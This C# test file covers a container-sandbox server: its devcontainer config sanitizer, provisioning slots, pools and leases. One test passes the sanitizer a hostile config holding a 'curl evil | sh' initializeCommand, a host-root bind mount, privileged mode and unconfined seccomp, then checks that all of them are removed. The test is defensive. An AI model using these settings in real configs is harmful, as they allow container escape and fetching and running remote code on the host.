using Covibe.Server.Features.Cluster;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Covibe.Protocol;
using Covibe.Server.Features.Boxes;
using Covibe.Server.Tests.Infrastructure;
using Microsoft.Extensions.DependencyInjection;

namespace Covibe.Server.Tests;

/// <summary>The small pieces of boxes and pools, on their own: the dev container sanitizer, the latency figures; and a server with no engine.</summary>
public sealed class BoxPartsTests
{
    private static readonly BoxContainerSpec Spec = new("covibes_box_t_b", new Dictionary<string, string> { ["covibe.box"] = "b" },
        "/data/boxes/b/workspace", "/data/boxes/b/runs", "/data/boxes/.mirrors/t/m.git", "bridge", 2L << 30, 1.0, 1024);

    [Fact]
    public void Sanitize_DropsWhatReachesPastTheBox_KeepsTheRest_AndAddsTheServersWalls()
    {
        var (json, notes) = DevcontainerConfig.Sanitize("""
            // comment
            {
              "image": "node:20",
              "runArgs": ["--privileged"], "mounts": ["source=/,target=/host,type=bind"], "privileged": true, "capAdd": ["SYS_ADMIN"],
              "securityOpt": ["seccomp=unconfined"], "initializeCommand": "curl evil | sh", "workspaceMount": "source=/,target=/w,type=bind",
              "build": { "dockerfile": "Dockerfile", "options": ["--network=host"] },
              "postCreateCommand": "npm ci", "containerEnv": { "A": "1" }, "remoteUser": "node",
            }
            """, Spec);
        var config = JsonDocument.Parse(json).RootElement;
        config.GetProperty("image").GetString().ShouldBe("node:20");
        config.GetProperty("postCreateCommand").GetString().ShouldBe("npm ci");
        config.GetProperty("remoteUser").GetString().ShouldBe("node");
        config.TryGetProperty("privileged", out _).ShouldBeFalse();
        config.TryGetProperty("capAdd", out _).ShouldBeFalse();
        config.TryGetProperty("securityOpt", out _).ShouldBeFalse();
        config.TryGetProperty("initializeCommand", out _).ShouldBeFalse();
        config.GetProperty("build").TryGetProperty("options", out _).ShouldBeFalse();
        config.GetProperty("workspaceMount").GetString().ShouldBe("source=/data/boxes/b/workspace,target=/workspace,type=bind");
        var mounts = config.GetProperty("mounts").EnumerateArray().Select(m => m.GetString()).ToList();
        mounts.ShouldBe(["source=/data/boxes/b/runs,target=/covibe-runs,type=bind", "source=/data/boxes/.mirrors/t/m.git,target=/covibe-mirror,type=bind,readonly"]);
        var runArgs = string.Join(' ', config.GetProperty("runArgs").EnumerateArray().Select(a => a.GetString()));
        runArgs.ShouldNotContain("--privileged");
        runArgs.ShouldContain("--name covibes_box_t_b");
        runArgs.ShouldContain("--cap-drop ALL");
        runArgs.ShouldContain("--security-opt no-new-privileges");
        runArgs.ShouldContain("--memory 2147483648");
        runArgs.ShouldContain("--label covibe.box=b");
        notes.Count.ShouldBe(8);
        notes.ShouldContain(n => n.Contains("\"initializeCommand\"", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("{ \"dockerComposeFile\": \"compose.yml\", \"service\": \"app\" }", "Docker Compose")]
    [InlineData("{ \"name\": \"nothing to start from\" }", "no \"image\"")]
    [InlineData("{ not json", "not valid JSON")]
    [InlineData("[1, 2]", "JSON object")]
    public void Sanitize_RefusesConfigurationsABoxCannotBe(string text, string reason) =>
        Should.Throw<DevcontainerConfigException>(() => DevcontainerConfig.Sanitize(text, Spec)).Message.ShouldContain(reason);

    [Theory]
    [InlineData(false, 2, 2, 3, true)]   // a member's request takes the last free slot
    [InlineData(true, 2, 2, 3, false)]   // pool work does not: it stays free for members
    [InlineData(true, 1, 1, 3, true)]
    [InlineData(true, 2, 1, 3, true)]    // one pool box and one member's under way: pool work may take the third
    [InlineData(false, 3, 0, 3, false)]  // none free
    [InlineData(true, 0, 0, 1, true)]    // one slot in all: pools use it when it is free
    public void PoolWork_NeverTakesTheLastProvisioningSlot(bool pool, int running, int runningPool, int max, bool mayStart) =>
        BoxProvisioner.MayStart(pool, running, runningPool, max).ShouldBe(mayStart);

    [Fact]
    public void ClaimLatencyPercentiles_AreNearestRank()
    {
        PoolService.Percentile([], 0.5).ShouldBeNull();
        var values = Enumerable.Range(1, 100).Select(i => (double)i).Reverse().ToList();
        PoolService.Percentile(values, 0.50).ShouldBe(50);
        PoolService.Percentile(values, 0.99).ShouldBe(99);
        PoolService.Percentile([7.25], 0.99).ShouldBe(7.25);
    }

    [Fact]
    public async Task TheOperatorsPoolsFile_DeclaresPoolsForTeams_ThatTheTeamCannotChange_AndABadFileStopsStartUp()
    {
        var data = StartupTests.TempDirectory();
        using var repo = GitRepo.Create();
        repo.Commit("first", new() { ["README.md"] = "x" });
        var settings = new Dictionary<string, string>
        {
            ["Covibe:Containers:Host"] = "unix:///nonexistent/podman.sock",
            ["Covibe:Boxes:AllowLocalRepositories"] = "true",
        };
        string token;
        await using (var first = await TestServer.StartAsync(settings: settings, dataDirectory: data))
        {
            token = (await first.CreateTeamAsync("Acme Ops", "Olga")).Auth.AccessToken;
        }
        var file = Path.Combine(data, "pools.json");
        await File.WriteAllTextAsync(file, $$"""
            // The operator's pools: by team name (or id).
            { "pools": [ { "team": "Acme Ops", "repoUrl": "{{repo.Path}}", "baseBranch": "main", "minStandby": 0, "maxInstances": 3 }, ] }
            """);
        settings["Covibe:Boxes:PoolsFile"] = file;
        await using (var second = await TestServer.StartAsync(settings: settings, dataDirectory: data))
        {
            using var client = second.Client(token);
            var pool = (await client.GetFromJsonAsync<PoolListResponse>("/api/pools"))!.Pools.Single();
            (pool.Source, pool.MaxInstances, pool.Backend).ShouldBe(("config", 3, "container"));
            var change = await client.PutAsJsonAsync("/api/pools", new[] { new PoolSpec(repo.Path, "main", 0, 5) });
            await change.ShouldBeProblemAsync(HttpStatusCode.Conflict, "pool-from-config");
            // The team's own list does not touch the operator's pools.
            (await client.PutAsJsonAsync("/api/pools", Array.Empty<PoolSpec>())).EnsureSuccessStatusCode();
            (await client.GetFromJsonAsync<PoolListResponse>("/api/pools"))!.Pools.Single().Source.ShouldBe("config");
        }
        await File.WriteAllTextAsync(file, """{ "pools": [ { "team": "No Such Team", "repoUrl": "https://example.com/a.git", "maxInstances": 1 } ] }""");
        var error = await Should.ThrowAsync<Microsoft.Extensions.Options.OptionsValidationException>(() => TestServer.StartAsync(settings: settings, dataDirectory: data));
        error.Message.ShouldContain("Covibe:Boxes:PoolsFile");
        error.Message.ShouldContain("'No Such Team' is no team here");
        StartupTests.Delete(data);
    }

    [Fact]
    public async Task ALease_IsHeldByOneNodeAtATime_RenewedByItsHolder_AndTakenOverOnlyOnceItRunsOut()
    {
        await using var server = await TestServer.StartAsync();
        var leases = server.App.Services.GetRequiredService<Leases>();
        (await leases.HoldAsync("job", "node-a", TimeSpan.FromMilliseconds(600), CancellationToken.None)).ShouldBeTrue();
        (await leases.HoldAsync("job", "node-b", TimeSpan.FromSeconds(5), CancellationToken.None)).ShouldBeFalse("node A holds it");
        (await leases.HoldAsync("job", "node-a", TimeSpan.FromMilliseconds(600), CancellationToken.None)).ShouldBeTrue("its holder renews it");
        await Task.Delay(800);
        (await leases.HoldAsync("job", "node-b", TimeSpan.FromSeconds(5), CancellationToken.None)).ShouldBeTrue("node A let it run out");
        (await leases.HoldAsync("job", "node-a", TimeSpan.FromSeconds(5), CancellationToken.None)).ShouldBeFalse();
        await leases.ReleaseAsync("job", "node-b", CancellationToken.None);
        (await leases.HoldAsync("job", "node-a", TimeSpan.FromSeconds(5), CancellationToken.None)).ShouldBeTrue("released: the next node takes it at once");
    }

    [Fact]
    public async Task ABoxInTheMaking_IsLeftToTheNodeHoldingItsLease_AndTakenUpOnceThatLeaseRunsOut()
    {
        // No engine here: a box this server takes up fails at once, saying so; one it leaves alone stays in the making.
        await using var server = await TestServer.StartAsync(settings: new Dictionary<string, string> { ["Covibe:Containers:Host"] = "unix:///nonexistent/podman.sock" });
        var owner = await server.CreateTeamAsync();
        var leases = server.App.Services.GetRequiredService<Leases>();
        var dbs = server.App.Services.GetRequiredService<Microsoft.EntityFrameworkCore.IDbContextFactory<Covibe.Server.Data.CovibeDb>>();
        // Two boxes other nodes were making: one is alive and renews its lease, the other stopped renewing.
        (await leases.HoldAsync(BoxProvisioner.LeaseName("made-elsewhere"), "node-alive", TimeSpan.FromMinutes(5), CancellationToken.None)).ShouldBeTrue();
        (await leases.HoldAsync(BoxProvisioner.LeaseName("orphaned"), "node-gone", TimeSpan.FromMilliseconds(1), CancellationToken.None)).ShouldBeTrue();
        await using (var db = await dbs.CreateDbContextAsync())
        {
            foreach (var id in new[] { "made-elsewhere", "orphaned" })
            {
                db.Boxes.Add(new Box
                {
                    Id = id, TeamId = owner.Auth.Team.Id, HolderId = owner.Auth.User.Id, RepoUrl = "https://example.com/app.git", Branch = "main",
                    Status = BoxStatuses.Provisioning, Step = BoxSteps.Queued, Backend = ContainerBoxes.KindName, CreatedAt = TimeProvider.System.GetUtcNow().UtcDateTime, Attempts = 1,
                });
            }
            await db.SaveChangesAsync();
        }
        server.App.Services.GetRequiredService<BoxWork>().Provision();
        using var client = server.Client(owner.Auth.AccessToken);
        var orphaned = await Eventually.UntilAsync(() => client.GetFromJsonAsync<BoxDto>("/api/boxes/orphaned")!, b => b!.Status == "failed", "the orphaned box taken up here");
        orphaned!.Error!.ShouldContain("container engine");
        (await leases.HolderAsync(BoxProvisioner.LeaseName("orphaned"), CancellationToken.None)).ShouldBeNull("its lease went with it");
        (await client.GetFromJsonAsync<BoxDto>("/api/boxes/made-elsewhere"))!.Status.ShouldBe("provisioning", "the node that holds its lease makes it");
        (await leases.HolderAsync(BoxProvisioner.LeaseName("made-elsewhere"), CancellationToken.None)).ShouldBe("node-alive");
    }

    [Fact]
    public async Task WithoutAContainerEngine_ABoxRequestIsRefusedAtOnce_SayingWhy()
    {
        await using var server = await TestServer.StartAsync(settings: new Dictionary<string, string>
        {
            ["Covibe:Containers:Host"] = "unix:///nonexistent/podman.sock",
            ["Covibe:Boxes:AllowLocalRepositories"] = "true",
        });
        using var repo = GitRepo.Create();
        repo.Commit("first", new() { ["README.md"] = "x" });
        var owner = await server.CreateTeamAsync();
        using var client = server.Client(owner.Auth.AccessToken);
        var reply = await client.PostAsJsonAsync("/api/boxes", new BoxRequest(repo.Path, "main"));
        (await reply.ShouldBeProblemAsync(HttpStatusCode.ServiceUnavailable, "boxes-unavailable")).GetProperty("detail").GetString()!.ShouldContain("does not answer");
        (await client.GetFromJsonAsync<BoxListResponse>("/api/boxes?all=true"))!.Boxes.ShouldBeEmpty();
    }
}
